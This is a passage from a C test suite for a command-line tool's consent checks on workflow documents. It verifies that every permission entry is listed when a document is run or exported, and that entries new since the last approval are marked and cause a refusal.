  g_assert_nonnull (strstr (
      told->out, "also services on this computer and in your network, read the folder of the "));
  done = cli_fixture_run (fixture, NULL, "run", "doc/flow.json", "--allow", "script", NULL);
  g_assert_cmpstr (done->out, ==, "done\n");
  g_assert_true (was_reached (server));
  g_assert_true (g_file_test (file, G_FILE_TEST_EXISTS));
  close (server);
}

/* --- One list --------------------------------------------------------------------------------- */

/* Fails if @text does not contain each entry of `show --json` in a line of its own, or contains
 * further lines with the indentation of entries. */
static void
assert_entries (TroupeValue *entries, const char *text)
{
  g_auto (GStrv) lines = g_strsplit (text, "\n", -1);
  gsize n_lines = 0;

  for (guint i = 0; lines[i] != NULL; i++)
    if (g_str_has_prefix (lines[i], "  ") && lines[i][2] != ' ')
      n_lines++;
  for (gsize i = 0; i < troupe_value_list_get_length (entries); i++)
    {
      TroupeValue *entry = troupe_value_list_get (entries, i);
      g_autofree char *line =
          g_strconcat ("  ", troupe_value_get_member_text (entry, "text"), NULL);

      g_test_message ("%s", line);
      g_assert_true (g_strv_contains ((const char *const *) lines, line));
    }
  g_assert_cmpuint (n_lines, ==, troupe_value_list_get_length (entries));
}

static void
write_everything (CliFixture *fixture)
{
  cli_fixture_write (fixture, "every.json", every_permission, TRUE);
  cli_fixture_write (fixture, "helper.py", "def go(*a): return 1\n", FALSE);
  cli_fixture_write (fixture, "server.py", "print(1)\n", FALSE);
  cli_fixture_write (fixture, ".env", "OTHER=x\n", FALSE);
}

/* Every command that runs a document or exports it as a job shows the entries of `show --json`, each
 * in one line, whatever the names in the document contain. */
static void
test_one_list (void)
{
  static const char *const sections[] = {
    "programs", "python",      "modules", "hosts",    "files",
    "folders",  "environment", "keys",    "settings", "models"
  };
  static const char *const commands[][8] = {
    { "run", "every.json" },
    { "run", "every.json", "--yes" },
    { "run", "every.json", "--allow", "all" },
    { "batch", "every.json", "--inputs-file", "in.jsonl", "--out", "out" },
    { "export-job", "every.json", "--target", "slurm", "--out", "job" },
  };
  g_autoptr (CliFixture) fixture = cli_fixture_new ();
  g_autoptr (CliAnswer) json = NULL;
  g_autoptr (TroupeValue) value = NULL;
  TroupeValue *entries;

  g_setenv ("https_proxy", "http://proxy.example:1", TRUE);
  write_everything (fixture);
  cli_fixture_write (fixture, "in.jsonl", "{}\n", FALSE);
  json = cli_fixture_run (fixture, NULL, "show", "every.json", "--json", NULL);
  value = cli_json (json->out);
  entries = troupe_value_map_lookup_string (value, "entries", -1);
  for (guint i = 0; i < G_N_ELEMENTS (sections); i++)
    {
      gboolean has_section = FALSE;

      for (gsize k = 0; k < troupe_value_list_get_length (entries); k++)
        has_section |=
            g_strcmp0 (troupe_value_get_member_text (troupe_value_list_get (entries, k), "section"),
                       sections[i]) == 0;
      g_test_message ("%s", sections[i]);
      g_assert_true (has_section);
    }
  for (guint i = 0; i < G_N_ELEMENTS (commands); i++)
    {
      g_autoptr (CliAnswer) answer = cli_fixture_runv (fixture, NULL, commands[i]);

      g_test_message ("%s\n%s", commands[i][0], answer->err);
      assert_entries (entries, answer->err);
    }
  g_unsetenv ("https_proxy");
}

/* What was not allowed before is marked, also by `show`. */
static void
test_marks_new (void)
{
  static const char before[] =
      "{'schema': 'crewai.flow/v1', 'name': 'n', 'config': {'checkpoint': {'location': 'one'}}, "
      "'methods': {'a': {'start': true, 'do': {'call': 'expression', 'expr': '1'}}}}";
  static const char after[] =
      "{'schema': 'crewai.flow/v1', 'name': 'n', 'config': {'checkpoint': {'location': 'one'}}, "
      "'persist': {'enabled': true, 'persistence': {'persistence_type': 'SQLiteFlowPersistence', "
      "'db_path': 'two.db'}}, 'methods': {'a': {'start': true, 'do': {'call': 'expression', "
      "'expr': "
      "'1'}}}}";
  g_autoptr (CliFixture) fixture = cli_fixture_new ();
  g_autoptr (CliAnswer) first = NULL;
  g_autoptr (CliAnswer) refused = NULL;
  g_autoptr (CliAnswer) shown = NULL;

  cli_fixture_write (fixture, "flow.json", before, TRUE);
  first = cli_fixture_run (fixture, NULL, "run", "flow.json", "--yes", NULL);
  g_assert_cmpint (first->status, ==, 0);
  cli_fixture_write (fixture, "flow.json", after, TRUE);
  refused = cli_fixture_run (fixture, NULL, "run", "flow.json", NULL);
  g_assert_cmpint (refused->status, ==, 5);
  shown = cli_fixture_run (fixture, NULL, "show", "flow.json", NULL);
  g_test_message ("%s", refused->err);
  g_assert_nonnull (strstr (refused->err, "1 of 2 entries is new since you allowed this document"));
  g_assert_nonnull (strstr (shown->out, "1 of 2 entries is new since you allowed this document"));
  for (guint i = 0; i < 2; i++)
    {
      const char *text = i == 0 ? refused->err : shown->out;
      g_autofree char *old = cli_fixture_path (fixture, "one (");
      g_autofree char *new = cli_fixture_path (fixture, "two.db (");
      g_autofree char *old_line = g_strdup_printf ("\n       %s", old);
      g_autofree char *new_line = g_strdup_printf ("\n  new  %s", new);

      g_assert_nonnull (strstr (text, old_line));
      g_assert_nonnull (strstr (text, new_line));
    }
}

int
main (int argc, char **argv)
{
  g_test_init (&argc, &argv, NULL);
  g_test_add_func ("/cli/consent/checkpoints-through-a-link", test_checkpoints_through_a_link);
  g_test_add_func ("/cli/consent/pruning", test_pruning_takes_checkpoints_alone);
  g_test_add_func ("/cli/consent/databases-through-a-link", test_databases_through_a_link);
  g_test_add_func ("/cli/consent/states-are-told", test_states_are_told);
  g_test_add_func ("/cli/consent/told-hosts", test_told_hosts);
  g_test_add_func ("/cli/consent/told-folders", test_told_folders);
  g_test_add_func ("/cli/consent/state-class", test_state_class);
  g_test_add_func ("/cli/consent/each", test_each);
  g_test_add_func ("/cli/consent/other-code", test_other_code);
  g_test_add_func ("/cli/consent/changed-while-asked", test_changed_while_asked);
  g_test_add_func ("/cli/consent/changed-while-it-runs", test_changed_while_it_runs);
  g_test_add_func ("/cli/consent/code-further-away", test_code_further_away);
  g_test_add_func ("/cli/consent/forgeries", test_forgeries);
  g_test_add_func ("/cli/consent/forged-events", test_forged_events);
  g_test_add_func ("/cli/consent/all-is-shown", test_all_is_shown);
  g_test_add_func ("/cli/consent/hosts", test_hosts);
  g_test_add_func ("/cli/consent/sandbox-is-no-wider", test_sandbox_is_no_wider);
  g_test_add_func ("/cli/consent/one-list", test_one_list);
  g_test_add_func ("/cli/consent/marks-new", test_marks_new);
  return g_test_run ();
}
